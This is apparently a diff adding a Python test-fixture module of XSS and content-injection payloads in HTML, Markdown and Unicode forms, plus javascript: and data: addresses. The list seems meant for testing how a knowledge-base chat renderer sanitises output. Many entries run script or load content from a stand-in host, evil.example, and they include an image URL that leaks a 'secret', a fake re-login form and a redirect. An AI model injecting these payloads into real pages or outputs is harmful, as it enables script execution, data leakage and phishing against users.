@@ -1,0 +1,113 @@
+"""What documents, questions and models could write to run a script, or to load something from elsewhere."""
+
+# ruff: noqa: E501 - one payload is read as one line
+
+from __future__ import annotations
+
+EVIL = "https://evil.example"
+SPY = "window.__ran=1"
+"""Every script here would leave this behind, or open a dialog."""
+
+HTML = [
+    "<script>window.__ran=1</script>",
+    "<ScRiPt>window.__ran=1</sCrIpT>",
+    "<script src=https://evil.example/a.js></script>",
+    "<script/src=//evil.example/a.js></script>",
+    "<img src=x onerror=window.__ran=1>",
+    "<img/src=x/onerror=alert(1)>",
+    "<img src=https://evil.example/p.png?q=secret>",
+    "<img srcset='https://evil.example/p.png 1x'>",
+    "<svg onload=window.__ran=1>",
+    "<svg><script>window.__ran=1</script></svg>",
+    "<svg><animate onbegin=window.__ran=1 attributeName=x dur=1s>",
+    "<svg><use href='https://evil.example/s.svg#x'></use></svg>",
+    "<svg><image href='https://evil.example/s.png'></image></svg>",
+    "<math><mtext><mglyph><style><!--</style><img title='--><img src=x onerror=window.__ran=1>'>",
+    "<iframe src=https://evil.example></iframe>",
+    "<iframe srcdoc='<script>parent.__ran=1</script>'></iframe>",
+    "<iframe src=javascript:parent.__ran=1></iframe>",
+    "<object data=https://evil.example/o.swf></object>",
+    "<embed src=https://evil.example/e.swf>",
+    "<video src=https://evil.example/v.mp4 autoplay onerror=window.__ran=1></video>",
+    "<audio src=https://evil.example/a.mp3 autoplay></audio>",
+    "<video poster=https://evil.example/p.png></video>",
+    "<details open ontoggle=window.__ran=1>x</details>",
+    "<input autofocus onfocus=window.__ran=1>",
+    "<select autofocus onfocus=window.__ran=1>",
+    "<body onload=window.__ran=1>",
+    "<marquee onstart=window.__ran=1>x</marquee>",
+    "<form action=https://evil.example><button>Log in again</button></form>",
+    "<link rel=stylesheet href=https://evil.example/s.css>",
+    "<link rel=prefetch href=https://evil.example/p>",
+    "<link rel=dns-prefetch href=//evil.example>",
+    "<style>@import url(https://evil.example/s.css);</style>",
+    "<style>*{background:url(https://evil.example/b.png)}</style>",
+    "<p style='background:url(https://evil.example/b.png)'>x</p>",
+    "<p style='position:fixed;inset:0;z-index:9999'>x</p>",
+    "<base href=https://evil.example/>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
+    "<a href=javascript:window.__ran=1>click</a>",
+    "<a href='java\tscript:window.__ran=1'>click</a>",
+    "<a href='&#106;avascript:window.__ran=1'>click</a>",
+    "<a href='data:text/html,<script>window.__ran=1</script>'>click</a>",
+    "<a href=https://example.com ping=https://evil.example/ping>click</a>",
+    "<a class=kb-cite data-citation=cit_1 href=#cit_1>1</a>",
+    "<template shadowrootmode=open><img src=x onerror=window.__ran=1></template>",
+    "<noscript><p title='</noscript><img src=x onerror=window.__ran=1>'>",
+    "<textarea></textarea><img src=x onerror=window.__ran=1>",
+    "<table background=https://evil.example/b.png><tr><td>x</td></tr></table>",
+    "<kb-chat server=https://evil.example open></kb-chat>",
+    "<slot onslotchange=window.__ran=1></slot>",
+    "--><img src=x onerror=window.__ran=1><!--",
+    "]]><img src=x onerror=window.__ran=1>",
+    "\"'><img src=x onerror=window.__ran=1>",
+    "</div></template></script><img src=x onerror=window.__ran=1>",
+    "<!--<img src='--><img src=x onerror=window.__ran=1>'>",
+]
+MARKDOWN = [
+    "![이미지](https://evil.example/p.png?q=secret)",
+    "![x][img]\n\n[img]: https://evil.example/p.png",
+    '![x](https://evil.example/p.png "title\' onerror=window.__ran=1")',
+    "[![x](https://evil.example/p.png)](https://evil.example)",
+    "[눌러 보세요](javascript:window.__ran=1)",
+    "[click](JaVaScRiPt:window.__ran=1)",
+    "[click](javascript&colon;window.__ran=1)",
+    "[click](&#x6A;avascript:window.__ran=1)",
+    "[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19yYW49MTwvc2NyaXB0Pg==)",
+    "[click](vbscript:window.__ran=1)",
+    "[click](\x01javascript:window.__ran=1)",
+    "[click](//evil.example)",
+    "<https://evil.example/auto>",
+    "<javascript:window.__ran=1>",
+    "[1](https://evil.example/fake)",
+    "[1]: https://evil.example/defined",
+    "`<img src=x onerror=window.__ran=1>`",
+    "```html\n<img src=x onerror=window.__ran=1>\n```",
+    "~~~\"><img src=x onerror=window.__ran=1>\nx\n~~~",
+    "| a | <img src=x onerror=window.__ran=1> |\n| --- | --- |\n| ![x](https://evil.example/t.png) | b |",
+    "> <img src=x onerror=window.__ran=1>",
+    "# <img src=x onerror=window.__ran=1>",
+]
+UNICODE = [
+    "＜img src=x onerror=window.__ran=1＞",
+    "\ufeff<img src=x onerror=window.__ran=1>",
+    "<\u200bimg src=x onerror=window.__ran=1>",
+    "<img\u2028src=x\u2028onerror=window.__ran=1>",
+    "\u202e<gmi src=x onerror=window.__ran=1>",
+    "\ue0001\ue001<img src=x onerror=window.__ran=1>",
+    "${window.__ran=1}{{window.__ran=1}}<%= window.__ran=1 %>",
+    "__proto__[onload]=window.__ran=1",
+]
+PAYLOADS = [*HTML, *MARKDOWN, *UNICODE]
+
+ADDRESSES = [
+    "javascript:window.__ran=1",
+    " javascript:window.__ran=1",
+    "JAVASCRIPT:window.__ran=1",
+    "java\nscript:window.__ran=1",
+    "data:text/html,<script>window.__ran=1</script>",
+    "vbscript:window.__ran=1",
+    "blob:https://evil.example/1",
+    "\"onclick=window.__ran=1 x=\"",
+]
+"""What the metadata of a page could give as its address."""
